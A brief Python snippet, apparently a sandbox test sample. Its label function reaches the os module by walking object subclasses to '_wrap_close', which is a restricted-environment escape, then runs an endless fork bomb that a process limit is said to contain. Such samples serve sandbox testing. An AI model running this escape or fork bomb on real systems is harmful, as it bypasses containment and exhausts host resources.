# With the static check off: fork bomb through the real os.fork.
# Contained by RLIMIT_NPROC=0.
def _os_globals():
    for cls in ().__class__.__bases__[0].__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__
    raise RuntimeError("no way out found")


def label(text):
    fork = _os_globals()["fork"]
    while True:
        if fork() == 0:
            return 1
